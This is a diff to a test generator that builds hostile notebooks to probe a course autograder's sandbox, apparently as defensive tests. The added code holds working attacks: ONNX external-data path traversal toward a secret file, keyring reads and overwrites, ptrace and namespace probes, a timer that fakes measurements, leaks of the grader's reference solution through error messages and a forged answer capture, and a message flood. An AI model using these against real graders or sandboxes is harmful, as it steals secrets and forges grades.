@@ -2,10 +2,16 @@
 
 Each one is notebook 00's solution with exercise 00.1's cell replaced by one attack
 that also stores a WRONG answer, so a forged pass is visible as 1 point (the attacks
-on the grader itself, issue 18, add cells after it, and one is a notebook 02 whose
-exercise 02.3 is the attack). Cells that
-after 00.1 are dropped to keep the test fast (no torch import). MARKER names
-whatever an attack leaves behind, so the test can look for it afterwards.
+on the grader itself add cells after it). Cells after 00.1 are dropped to keep the
+test fast (no torch import). Two are other notebooks: a notebook 02 whose models attack
+the checks that read them (02.1 names data outside its file from every kind of tensor,
+02.3 loops for ever), and a notebook 04 whose kernel attacks what it shares with the
+host and its classmates (keyrings, file watches, tracing, namespaces), reads the key of
+the timer probe (04.2), carries the replayed reference solution back out through every
+channel of feedback (04.3-04.6, a later cell's error) and floods the grader with
+messages that are not output. MARKER names whatever an attack leaves behind, so the
+test can look for it afterwards; SECRET_PATH is put in by the test (a file of the
+grader's working folder).
 """
 import copy
 import sys
@@ -282,11 +288,151 @@ digits_path = "artifacts/digits_cnn.onnx"
 '''
 
 
-def _loop_notebook(base):
+SECRET_PATH = "COURSE-HOSTILE-SECRET-PATH"  # replaced by the test: a file only the grader can read
+EXTERNAL_HEADER = ("# Exercise 02.1 (2 points): export `resnet` with torch.onnx.export (dynamo exporter) using\n"
+                   "#   `example`, a dynamic batch dimension named \"batch\" and external_data=False, to\n"
+                   "#   artifacts/resnet18.onnx; store the path in `resnet_path`")
+# The checks' files: a model whose tensors, of every kind, name data outside the model's file
+# (relative to wherever a session is made, up the tree, and absolute).
+EXTERNAL_DATA_MODEL = f'''import os
+import onnx
+from onnx import TensorProto, helper
+
+{EXTERNAL_HEADER}
+def outside(name, location):
+    tensor = TensorProto(name=name, data_type=TensorProto.INT64, dims=[1])
+    tensor.data_location = TensorProto.EXTERNAL
+    for key, value in (("location", location), ("offset", "0"), ("length", "8")):
+        tensor.external_data.add(key=key, value=value)
+    return tensor
+places = ["{SECRET_PATH}", os.path.basename("{SECRET_PATH}"), "../../../../../../.." + "{SECRET_PATH}"]
+out = helper.make_tensor_value_info("y", TensorProto.INT64, None)
+branch = helper.make_graph([helper.make_node("Constant", [], ["y"], value=outside("b", places[1]))], "b", [], [out])
+nodes = [helper.make_node("Constant", [], ["k"], value=outside("k", places[1])),
+         helper.make_node("If", ["cond"], ["y"], then_branch=branch, else_branch=branch)]
+graph = helper.make_graph(nodes, "outside", [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 3, 224, 224])],
+                          [out], [helper.make_tensor("cond", TensorProto.BOOL, [], [True])] +
+                          [outside(f"c{{index}}", place) for index, place in enumerate(places)])
+for index, place in enumerate(places):
+    graph.sparse_initializer.append(helper.make_sparse_tensor(
+        outside(f"s{{index}}", place), helper.make_tensor(f"i{{index}}", TensorProto.INT64, [1], [0]), [1]))
+model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
+model.graph.node[0].metadata_props.add(key="pkg.torch.onnx.stack_trace", value="forward")
+os.makedirs("artifacts", exist_ok=True)
+onnx.save(model, "artifacts/resnet18.onnx")
+resnet_path = "artifacts/resnet18.onnx"
+'''
+
+
+def _models_notebook(base):
     nb = copy.deepcopy(base)
     nb.metadata["course_utils"] = {"notebook": "02-export-and-verify"}
-    nb.cells = [nbformat.v4.new_markdown_cell("A model whose checks never end."),
-                nbformat.v4.new_code_cell(LOOP_MODEL)]
+    nb.cells = [nbformat.v4.new_markdown_cell("Models that attack the checks that read them."),
+                nbformat.v4.new_code_cell(EXTERNAL_DATA_MODEL), nbformat.v4.new_code_cell(LOOP_MODEL)]
+    return nb
+
+
+# Notebook 04: a kernel that attacks the state it shares, the timer's probe, and feedback.
+KERNEL_STATE = '''import ctypes, os
+from IPython import get_ipython
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+NUMBERS = {"x86_64": dict(keyctl=250, add_key=248, inotify_init1=294, ptrace=101, unshare=272),
+           "aarch64": dict(keyctl=219, add_key=217, inotify_init1=26, ptrace=117, unshare=97)}[os.uname().machine]
+def call(name, *args):
+    ctypes.set_errno(0)
+    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
+    return 0 if libc.syscall(ctypes.c_long(NUMBERS[name]), *args) >= 0 else ctypes.get_errno()
+SESSION, USER = -3, -4
+found = call("keyctl", 10, SESSION, b"user", b"course-hostile-secret", 0)  # the grader's key
+stored = call("add_key", b"user", b"course-hostile-secret", b"overwritten", 11, SESSION)
+stashed = call("add_key", b"user", b"course-hostile-stash", b"for the next sandbox", 20, USER)
+watched = call("inotify_init1", 0)  # then a watch on the library every sandbox shares
+traced = call("ptrace", 0, 0, 0, 0)
+nested = call("unshare", 0x10000000)  # a user namespace of its own
+probes = f"k{found} {stored} {stashed} i{watched} p{traced} u{nested}"
+seen = []  # the source of every cell the kernel runs: the grader's replays included
+def keep(lines):
+    seen.append("".join(lines))
+    return lines
+get_ipython().input_transformers_cleanup.append(keep)
+def reference():
+    """The replayed reference solution of 04.1, its header left out (students have that)."""
+    for text in reversed(seen):
+        if "ort.SessionOptions()" in text:
+            return text[text.index("fair_options ="):]
+    return "(no reference seen)"
+'''
+TIMER_READING_ITS_KEY = '''import gc, glob, json, re, statistics
+def time_fairly(fn, warmup, repeats, clock=None):
+    """Never calls fn() or clock(): the costs come from wherever the probe left them."""
+    costs = None
+    for read in (lambda: fn._costs, lambda: fn.__dict__["_costs"], lambda: fn._facts()["costs_s"],
+                 lambda: clock.work._costs):
+        try:
+            costs = costs or [float(c) for c in read()]
+        except Exception:
+            pass
+    for path in glob.glob("/course/in/*/*"):  # the probe's inputs
+        try:
+            found = [float(v) for v in re.findall(r"0\\.[0-9]+", open(path, errors="replace").read())]
+        except OSError:
+            continue
+        costs = costs or (found if len(found) >= warmup + repeats else None)
+    for obj in gc.get_objects():  # any script of floats in the kernel's memory
+        if not costs and isinstance(obj, list) and len(obj) >= warmup + repeats and obj[:1] and \\
+                all(type(v) is float and 0 < v < 1 for v in obj):
+            costs = list(obj)
+    samples = [1e3 * c for c in (costs or [0.0] * (warmup + repeats))[warmup:warmup + repeats]]
+    q = statistics.quantiles(samples, n=4) if len(samples) > 1 else [0, 0, 0]
+    return {"samples_ms": samples, "median_ms": statistics.median(samples), "iqr_ms": q[2] - q[0]}
+'''
+FLOOD_OF_OTHER_MESSAGES = '''import time
+kernel = get_ipython().kernel
+session, socket, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
+blob = "m" * (256 * 1024)
+deadline = time.monotonic() + 10  # 1 MiB a round, as long as the grader lets it (none of it is printed output)
+while time.monotonic() < deadline:
+    session.send(socket, "comm_msg", {"comm_id": "c", "data": {"blob": blob}}, parent=parent)
+    session.send(socket, "execute_input", {"code": blob, "execution_count": 1}, parent=parent)
+    session.send(socket, "display_data", {"data": {"text/plain": ""}, "metadata": {"blob": blob}}, parent=parent)
+    session.send(socket, "status", {"execution_state": blob}, parent=parent)
+'''
+FORGED_ERROR_CAPTURE = '''import json
+import course_utils.answers as answers
+original_capture = answers.capture
+def forged_capture(exercise_id, variable, kind, extract, out_dir):
+    answers.capture = original_capture  # once
+    os.makedirs(out_dir, exist_ok=True)
+    with open(os.path.join(out_dir, "answer.json"), "w") as handle:
+        json.dump({"error": reference()}, handle)
+answers.capture = forged_capture
+work_answer = None
+'''
+from pathlib import Path as _Path  # noqa: E402 (the generator's own)
+REFERENCE_LEAKS = [
+    ("04.1", "fair_options = type(\"seccomp \" + probes, (), {})()\n"),  # reports what the kernel could do
+    ("04.2", TIMER_READING_ITS_KEY),
+    ("04.3", "raise RuntimeError(reference())\n"),  # an exception's message
+    ("04.4", FORGED_ERROR_CAPTURE),  # the capture's error text
+    ("04.5", "int8_path = \"artifacts/\" + reference()\n"),  # a file's name
+    ("04.6", "from pathlib import Path\nint8_answer = {\"rows\": [{\"variant\": \"fp32\", \"median_ms\": 1.0}, "
+             "{\"variant\": \"int8\", \"median_ms\": 2.0}], \"slower\": [Path(reference())]}\n"),  # a path
+]
+
+
+def _kernel_state_notebook(base, root: Path):
+    from course_utils.build import parse_exercises
+
+    source = nbformat.read(root / "notebooks" / "04-runtime-comparison.ipynb", as_version=4)
+    headers = {e.id: e.solution.split("\n### BEGIN")[0].splitlines()[0] for e in parse_exercises(source, "04")}
+    nb = copy.deepcopy(base)
+    nb.metadata["course_utils"] = {"notebook": "04-runtime-comparison"}
+    nb.cells = [nbformat.v4.new_markdown_cell("A kernel that attacks what it shares, the timer's probe and feedback."),
+                nbformat.v4.new_code_cell(KERNEL_STATE)]
+    nb.cells += [nbformat.v4.new_code_cell(f"{headers[exercise]}\n{code}") for exercise, code in REFERENCE_LEAKS]
+    nb.cells += [nbformat.v4.new_code_cell("raise ValueError(reference())\n"),  # a later cell's error: a note
+                 nbformat.v4.new_code_cell(FLOOD_OF_OTHER_MESSAGES)]
     return nb
 
 
@@ -309,7 +455,8 @@ def main(root: Path) -> None:
             cells.append(cell)
         nb.cells = cells
         nbformat.write(nb, out / f"{name}.ipynb")
-    nbformat.write(_loop_notebook(base), out / "loop-model-in-checks.ipynb")
+    nbformat.write(_models_notebook(base), out / "models-in-checks.ipynb")
+    nbformat.write(_kernel_state_notebook(base, root), out / "kernel-state-timer-key-and-reference-leaks.ipynb")
 
 
 if __name__ == "__main__":
